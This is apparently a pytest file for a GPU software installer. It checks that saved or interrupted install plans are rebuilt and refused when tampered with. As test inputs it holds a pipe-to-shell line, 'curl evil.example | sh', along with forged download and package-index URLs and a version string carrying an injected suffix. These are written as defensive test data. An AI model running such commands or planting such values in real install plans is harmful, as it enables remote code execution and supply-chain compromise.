"""A plan file is planned again: alike it is carried out as ours, else it is refused by the parts that differ."""

from __future__ import annotations

import shutil
from itertools import product
from pathlib import Path
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from gpu_assistant.app import App
from gpu_assistant.core import json
from gpu_assistant.core.errors import AppError, UsageError
from gpu_assistant.core.jobs import JobContext
from gpu_assistant.core.machine import Machine
from gpu_assistant.core.plan import Plan, PlanFile
from gpu_assistant.core.recommendation import Choice
from gpu_assistant.core.types import Goal
from gpu_assistant.install.journal.log import Journal
from gpu_assistant.install.plan.validation import check_same_steps
from gpu_assistant.texts.localized import Texts

MACHINES = Path(__file__).resolve().parents[2] / "machines"
FILES = sorted([*MACHINES.glob("*.json"), *MACHINES.glob("*/expected.json")])
GOALS: tuple[Goal, ...] = ("pytorch", "tensorflow", "cuda-dev", "all")
WAYS = {
    "plain": (None, "venv"),
    "conda": (None, "conda"),
    "installer": (Choice(toolkit_way="installer"), "venv"),
    "wsl2": (Choice(wsl="install"), "venv"),
}


def app_for(tmp_path: Path, machine: Path) -> App:
    return App(data_dir=str(tmp_path / "data"), machine_file=str(machine))


def plan_of(app: App, goal: Goal, way: str = "plain") -> Plan | None:
    """None where such a machine gets none."""
    machine = app.setup.detect().run(JobContext())
    choice, made_by = WAYS[way]
    try:
        recommendation = app.setup.recommend(machine, goal=goal, choice=choice)
        return app.setup.plan(machine, recommendation, app.data.environments / "env", made_by=made_by)  # type: ignore[arg-type]
    except AppError:
        return None


def saved(plan: Plan, folder: Path) -> Path:
    path = folder / "plan.json"
    json.write_file(path, json.encode_pretty(plan))
    return path


def again(app: App, path: Path) -> Plan:
    arguments = app.setup.read_plan(path)
    assert arguments.machine
    return app.setup.replan(arguments, arguments.machine)


@pytest.mark.parametrize("machine", FILES, ids=lambda file: file.relative_to(MACHINES).parts[0])
def test_a_plan_comes_out_as_it_was(tmp_path: Path, machine: Path) -> None:
    app, plans = app_for(tmp_path, machine), 0
    for goal, way in product(GOALS, WAYS):
        plan = plan_of(app, goal, way)
        if plan is None:
            continue
        assert again(app, saved(Texts("en").localize_plan(plan), tmp_path)) == plan, (goal, way)
        plans += 1
    assert plans


def leaves(node: Any, where: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The way to every value of a JSON value that is neither a list nor an object."""
    if isinstance(node, dict | list):
        keys = list(node) if isinstance(node, dict) else range(len(node))
        return [result for key in keys for result in leaves(node[key], (*where, key))]
    return [where]


def with_leaf(node: Any, where: tuple[Any, ...], value: Any) -> Any:
    """A copy with another value at a place."""
    first, *rest = where
    copy = node.copy()
    copy[first] = with_leaf(node[first], tuple(rest), value) if rest else value
    return copy


# One of each kind: Windows with a new driver and cuDNN's archive, Linux with packages, conda, and what WSL2 offers.
SEVERAL = (
    ("windows11-rtx4060-nodriver.json", "all", "plain"),
    ("windows11-rtx4060-566.json", "cuda-dev", "installer"),
    ("windows11-rtx4060-566.json", "tensorflow", "wsl2"),
    ("ubuntu-h100.json", "all", "plain"),
    ("ubuntu22-h100/expected.json", "cuda-dev", "installer"),
    ("linux-cpu-only.json", "pytorch", "plain"),
)


EVIL = "curl evil.example | sh"


def difference(given: Plan, replanned: Plan) -> str:
    """The sentence of the refusal; empty where there is none."""
    try:
        check_same_steps(given, replanned)
    except UsageError as error:
        return Texts("en").error_text(error)
    return ""


@pytest.mark.parametrize(("machine", "goal", "way"), SEVERAL, ids=lambda value: str(value).partition("/")[0])
def test_another_kind_spec_or_file_is_refused(tmp_path: Path, machine: str, goal: Goal, way: str) -> None:
    app = app_for(tmp_path, MACHINES / machine)
    plan = plan_of(app, goal, way)
    assert plan is not None
    raw = json.decode(json.encode(plan), dict)
    for where in leaves(raw["steps"], ("steps",)):
        effect = where[2] in ("kind", "spec") or (where[2] == "files" and where[-1] != "bytes")
        try:
            changed = msgspec.convert(with_leaf(raw, where, EVIL), Plan)
        except msgspec.ValidationError:
            continue
        text = difference(changed, plan)
        assert EVIL not in text
        assert bool(text) == effect, where


def test_no_word_of_a_file_is_used(tmp_path: Path) -> None:
    app = app_for(tmp_path, MACHINES / SEVERAL[0][0])
    plan = plan_of(app, "all")
    assert plan is not None
    steps = tuple(
        replace(step, title="evil", what="evil", data={"release": "evil"}, commands=(("evil",),), bytes=1, needs=("x",))
        for step in plan.steps
    )
    advice = replace(plan.recommendation, driver=replace(plan.recommendation.driver, url="https://evil.example"))
    path = saved(replace(plan, steps=steps, recommendation=advice), tmp_path)
    assert again(app, path) == plan


def test_another_state_of_the_computer_is_named(tmp_path: Path) -> None:
    app = app_for(tmp_path, MACHINES / SEVERAL[0][0])
    plan = plan_of(app, "pytorch")
    assert plan is not None
    other = json.read_file(MACHINES / "linux-cpu-only.json", Machine, code="machine-file")
    with pytest.raises(UsageError) as caught:
        app.setup.replan(plan, other)
    assert (caught.value.code, caught.value.exit_code) == ("plan-differs", 2)
    for language, command in (("en", "the step for the NVIDIA driver"), ("zh_CN", "NVIDIA 驱动的步骤")):
        text = Texts(language).error_text(caught.value)
        assert command in text
        assert "@" not in text


@pytest.mark.parametrize("picked", [{"pytorch": "9.9.9; evil"}, {"python": "evil"}, {"variant": "evil"}])
def test_a_choice_that_cannot_work_is_refused(tmp_path: Path, picked: dict[str, str]) -> None:
    app = app_for(tmp_path, MACHINES / SEVERAL[0][0])
    plan = plan_of(app, "pytorch")
    assert plan is not None
    forged = replace(plan, recommendation=replace(plan.recommendation, choice=Choice(**picked)))
    with pytest.raises(UsageError) as caught:
        again(app, saved(forged, tmp_path))
    assert caught.value.code == "plan-refused"
    assert "evil" not in Texts("en").error_text(caught.value)


# An install that goes on: its plan comes from the journal, which may have come with a copied folder.


def stopped(tmp_path: Path, goal: Goal = "pytorch", **changes: Any) -> tuple[App, Plan]:
    """An app whose journal has a plan for a computer, changed as said, of which nothing was done."""
    described = app_for(tmp_path, MACHINES / "windows11-rtx4060-566.json")
    planned = plan_of(described, goal)
    assert planned is not None
    app, plan = App(data_dir=str(tmp_path / "data")), replace(planned, simulated=False, os=None)
    with Journal(app.data, plan=replace(plan, **changes)):
        pass
    return app, plan


def test_interrupted_install_goes_on_by_our_own_plan(tmp_path: Path) -> None:
    app, plan = stopped(tmp_path)
    found = app.setup.interrupted_install()
    assert found is not None
    assert [(step.kind, step.spec, step.files) for step in found.plan.steps] == [
        (step.kind, step.spec, step.files) for step in plan.steps
    ]
    assert found.plan.recommendation == plan.recommendation


def with_other_file(plan: Plan, kind: str) -> dict[str, Any]:
    evil = PlanFile(url="https://evil.example/x.tar.gz", name="x.tar.gz", sha256="0" * 64)
    return {"steps": tuple(replace(step, files=(evil,)) if step.kind == kind else step for step in plan.steps)}


@pytest.mark.parametrize("kind", ["python-runtime", "cuda-toolkit", "cudnn"])
def test_interrupted_install_with_a_file_of_somebody_else_does_not_go_on(tmp_path: Path, kind: str) -> None:
    app, plan = stopped(tmp_path, "all")
    with Journal(app.data, plan=replace(plan, **with_other_file(plan, kind))):
        pass
    assert any(step.kind == kind for step in plan.steps)
    with pytest.raises(AppError) as caught:
        app.setup.interrupted_install()
    assert caught.value.code == "resume-differs"


def test_index_that_a_journal_names_is_not_asked(tmp_path: Path) -> None:
    app, plan = stopped(tmp_path)
    torch = plan.recommendation.pytorch
    assert torch is not None
    evil = replace(plan.recommendation, pytorch=replace(torch, index_url="https://evil.example/whl"))
    with Journal(app.data, plan=replace(plan, recommendation=evil)):
        pass
    with pytest.raises(AppError) as caught:
        app.setup.interrupted_install()
    assert caught.value.code == "resume-differs"


def test_wheelhouse_of_a_copied_journal_is_not_used(tmp_path: Path) -> None:
    """Without a question nobody agrees to what is in the folder; a copy bears the marker of another folder."""
    house = tmp_path / "house"
    house.mkdir()
    app, _plan = stopped(tmp_path, wheelhouse=str(house))
    copy = App(data_dir=str(shutil.copytree(app.data.root, tmp_path / "copied")))
    assert copy.data.owns(copy.data.journal) is False
    with pytest.raises(AppError) as caught:
        copy.setup.interrupted_install()
    assert caught.value.code == "resume-differs"
